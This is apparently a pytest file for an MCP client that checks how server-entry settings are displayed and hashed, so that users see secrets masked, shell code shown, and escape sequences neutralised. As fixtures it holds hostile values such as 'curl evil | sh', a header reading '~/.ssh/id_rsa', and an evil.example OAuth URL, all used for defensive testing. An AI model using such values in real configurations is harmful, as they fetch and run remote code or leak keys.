"""The sheet of an entry: all that decides what runs is shown, and changes its digest."""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mcpclient.config import sheet as module
from mcpclient.config.sheet import NamedFile, NamedFiles, Sheet, named_files, sheet_of
from mcpclient.entries.applications import APPLICATIONS
from mcpclient.entries.entry import Entry, EntryError, read_entry
from mcpclient.entries.variables import Inputs, Variables

COMMAND = {"command": "npx", "args": ["-y", "a server"]}
URL = {"url": "https://x.example/mcp"}

# Every field of an entry, in an entry that has it, and what of it is to be read on the sheet.
FIELDS: dict[str, tuple[dict[str, Any], str]] = {
    "name": (COMMAND, ""),
    "command": (COMMAND, "command: npx -y 'a server'"),
    "url": (URL, "url: https://x.example/mcp"),
    "transport": ({**URL, "type": "sse"}, "transport: sse"),
    "env": ({**COMMAND, "env": {"PYTHONPATH": "./evil"}}, "env PYTHONPATH: ./evil"),
    "env_names": ({**COMMAND, "env_vars": ["BANK_KEY"]}, "env BANK_KEY: ${env:BANK_KEY}"),
    "env_file": ({**COMMAND, "envFile": ".env"}, "envFile: .env"),
    "cwd": ({**COMMAND, "cwd": "/srv"}, "cwd: /srv"),
    "bundle": ({**COMMAND, "bundle": "/x.mcpb"}, "bundle: /x.mcpb"),
    "sha256": ({**COMMAND, "sha256": "ab12"}, "sha256: ab12"),
    "headers": (
        {**URL, "headers": {"X-Key": "k ${BANK_API_KEY}", "Y": "{file:~/.ssh/id_rsa}"}},
        "header X-Key: k ${BANK_API_KEY}|header Y: {file:~/.ssh/id_rsa}",
    ),
    "header_variables": ({**URL, "env_http_headers": {"X": "HOME"}}, "header X: ${env:HOME}"),
    "bearer_variable": (
        {**URL, "bearer_token_env_var": "TOKEN"},
        "header Authorization: Bearer ${env:TOKEN}",
    ),
    "headers_helper": ({**URL, "headersHelper": "print me"}, "headersHelper: print me"),
    "oauth": (
        {**URL, "oauth": {"tokenUrl": "https://evil.example/token", "scopes": ["a"]}},
        'oauth.tokenUrl: https://evil.example/token|oauth.scopes: ["a"]',
    ),
    "enabled": ({**COMMAND, "disabled": True}, "disabled: true"),
    "lazy": ({**COMMAND, "lazy": True}, "lazy: true"),
    "trusted": ({**COMMAND, "trusted": True}, "trusted: true"),
    "timeout": ({**COMMAND, "tool_timeout_sec": 5}, "timeout: 5.0"),
    "connect_timeout": ({**COMMAND, "connect_timeout": 5}, "connect_timeout: 5.0"),
    "include": ({**COMMAND, "include": ["a"]}, 'include: ["a"]'),
    "exclude": ({**COMMAND, "exclude": ["a"]}, 'exclude: ["a"]'),
    "naming": ({**COMMAND, "naming": "tool"}, "naming: tool"),
    "limits": (
        {**COMMAND, "at_once": 4, "breakerSeconds": 5},
        'limits: {"at_once": 4, "breaker_seconds": 5}',
    ),
    "restrictions": ({**COMMAND, "sandbox": {"network": False}}, "sandbox.network: false"),
    "fields": (COMMAND, ""),
}


def sheet(raw: dict[str, Any], inputs: Any = None, source: str = "x.json") -> Sheet:
    entry = read_entry("s", raw, APPLICATIONS["mcpclient"], lambda *args, **more: None)
    declared = Inputs(inputs, None)
    return sheet_of(entry, raw, ("project", source), declared, lambda: iter(()))


def test_the_table_has_every_field_of_an_entry() -> None:
    """F-SAFE-2: a field that is added to entries is shown, or this fails."""
    named = {"env_names", "header_variables", "bearer_variable"}  # kept in env and headers
    assert FIELDS.keys() - named == {field.name for field in dataclasses.fields(Entry)}


@pytest.mark.parametrize("name", FIELDS)
def test_every_field_is_shown(name: str) -> None:
    """F-SAFE-2: with its value, and with the place a secret comes from instead of the secret."""
    raw, shown = FIELDS[name]
    found = sheet(raw)
    assert set(filter(None, shown.split("|"))) <= set(found.lines())
    assert json.loads(json.dumps(found.as_json()))["fields"] == dict(found.rows)


def test_every_change_is_another_digest_and_the_order_of_keys_is_none() -> None:
    """F-SAFE-2"""
    digests = {json.dumps(raw): sheet(raw).digest() for raw, _ in FIELDS.values()}
    assert len(set(digests.values())) == len(digests)
    turned = dict(reversed(COMMAND.items()))
    assert sheet(turned).digest() == sheet(COMMAND).digest()
    assert sheet(COMMAND, source="y.json").digest() != sheet(COMMAND).digest()


@pytest.mark.parametrize("spelled", ["a'b", 'a"b', "a\\b", "é", "a b", "\u2028"])
def test_the_default_of_an_input_counts_however_its_id_is_spelled(spelled: str) -> None:
    """F-SAFE-2: a repr writes these otherwise than the file does, so values are walked."""
    raw = {"command": "sh", "args": ["-c", f"${{input:{spelled}}}"]}
    harmless = sheet(raw, [{"id": spelled, "default": "true"}])
    evil = sheet(raw, [{"id": spelled, "default": "curl evil | sh"}])
    assert harmless.digest() != evil.digest()
    assert any("curl evil | sh" in line for line in evil.lines())


def test_an_input_may_stand_in_a_key() -> None:
    """F-SAFE-2"""
    raw = {"url": "https://x/mcp", "oauth": {"${input:a}": "b"}}
    assert any("default 'c'" in line for line in sheet(raw, [{"id": "a", "default": "c"}]).lines())


def test_a_secret_in_the_file_is_hidden_but_code_never_is() -> None:
    """F-SAFE-2: whatever the name of a variable says, a line for a shell is shown."""
    env = {"API_TOKEN": "abcdefgh12345678", "MY_TOKEN": "curl evil | sh", "A": "ghp_" + "a" * 36}
    raw = {**COMMAND, "env": env}
    lines = sheet(raw).lines()
    assert {"env API_TOKEN: …", "env MY_TOKEN: curl evil | sh", "env A: …"} <= set(lines)
    inputs = [
        {"id": "a", "default": "abcdefgh12345678", "password": True},
        {"id": "b", "default": "curl evil | sh", "password": True},
        {"id": "c"},
    ]
    text = "\n".join(sheet({"command": "${input:a}${input:b}${input:c}"}, inputs).lines())
    assert "input a: default …" in text
    assert "input b: default 'curl evil | sh'" in text
    assert "input c: no default" in text


def test_lines_are_escaped() -> None:
    """F-SAFE-2: a file cannot draw over what the user reads."""
    lines = sheet({"command": "x", "args": ["\x1b[2K\nurl: https://good"]}).lines()
    assert len(lines) == 1
    assert "\x1b" not in lines[0] and "\n" not in lines[0]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for name in ("server.py", "hook.js", ".env", "token", "run"):
        (tmp_path / name).write_text(name)
    return tmp_path


def found_in(raw: dict[str, Any], folder: Path) -> list[NamedFile]:
    entry = read_entry("s", raw, APPLICATIONS["mcpclient"], lambda *args, **more: None)
    files = NamedFiles()
    folders = {"workspaceFolder": str(folder), "fileDirname": str(folder), "userHome": str(folder)}
    read = lambda path: files.read(path).decode()  # noqa: E731
    variables = Variables({"D": str(folder)}, Inputs(None, None), folders, read)
    found: Iterator[NamedFile] = named_files(entry, raw, variables, str(folder), str(folder), files)
    return list(found)


@pytest.mark.parametrize(
    ("raw", "names"),
    [
        ({"command": "python", "args": ["server.py"]}, ["server.py"]),
        ({"command": "./run", "args": ["--x=./hook.js"]}, ["run", "hook.js"]),
        ({"command": "${D}/run"}, ["run"]),
        ({"command": "~/run"}, ["run"]),
        ({"command": "sh", "args": ["-c", "cd .; python 'server.py'&&x"]}, ["server.py"]),
        ({**COMMAND, "env": {"NODE_OPTIONS": "--require ./hook.js"}}, ["hook.js"]),
        ({**COMMAND, "envFile": "${workspaceFolder}/.env"}, [".env"]),
        ({**URL, "headers": {"A": "{file:token}", "B": "${file:~/token}"}}, ["token"] * 2),
        ({**URL, "headersHelper": "./run --json"}, ["run"]),
        ({"command": "java", "args": ["-cp", f"run{os.pathsep}hook.js"]}, ["run", "hook.js"]),
        ({"command": "ruby", "args": ["-r./hook.js", "@run"]}, ["hook.js", "run"]),
        ({"command": "node", "args": ["${UNSET}./hook.js"]}, ["hook.js"]),
        ({"command": "sh", "args": ["-c", "node ${UNSET}./hook.js"]}, ["hook.js"]),
        ({"command": "sh", "args": ["-c", "node ${UNSET:-./hook.js}"]}, ["hook.js"]),
        ({**COMMAND, "env": {"NODE_OPTIONS": "--require ${D}/hook.js"}}, ["hook.js"]),
        (COMMAND, []),
    ],
)
def test_the_files_that_an_entry_names(raw: dict[str, Any], names: list[str], folder: Path) -> None:
    """F-SAFE-2: their contents count, each wherever it is named."""
    files = found_in(raw, folder)
    assert [os.path.basename(each.path) for each in files] == names
    before = [each.digest for each in files]
    for name in set(names):
        (folder / name).write_text("changed")
    assert all(one != other.digest for one, other in zip(before, found_in(raw, folder)))


def test_a_file_that_cannot_be_read_or_is_too_large(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """F-SAFE-2: the one that is not there counts as such; a large one by its size and time."""
    (missing,) = found_in({**COMMAND, "envFile": "gone"}, folder)
    assert missing.digest == ""
    assert NamedFiles().digest("no\0path") == ""
    monkeypatch.setattr("mcpclient.config.sheet._MAX_READ_SIZE", 3)
    (large,) = found_in({"command": "./run"}, folder)
    (folder / "run").write_text("larger than before")
    (changed,) = found_in({"command": "./run"}, folder)
    assert len(large.digest) == 64
    assert changed.digest != large.digest


def test_a_file_is_read_once() -> None:
    """F-SAFE-2: what was judged is what is used."""
    files = NamedFiles()
    path = Path(os.devnull)
    for _ in range(2):
        with pytest.raises(OSError, match="regular"):
            files.read(str(path))


def test_a_file_with_many_names_is_read_once_and_not_kept(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """F-SAFE-2: a repository does not fill the memory before the user is asked."""
    read: list[str] = []

    def reading(path: str, *, limit: int) -> bytes:
        read.append(path)
        return b"x"

    monkeypatch.setattr(module, "read_file", reading)
    words = [f"{'./' * number}run" for number in range(1, 50)]
    assert len(found_in({"command": "sh", "args": words}, folder)) == len(words)
    assert len(read) == 1


def test_files_that_are_too_large_together(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """F-SAFE-2"""
    monkeypatch.setattr(module, "_MAX_READ_IN_ALL", 10)
    assert len(found_in({"command": "./run"}, folder)) == 1
    with pytest.raises(EntryError, match="larger than 10 bytes together"):
        found_in({"command": "./run", "args": ["hook.js", "server.py"]}, folder)
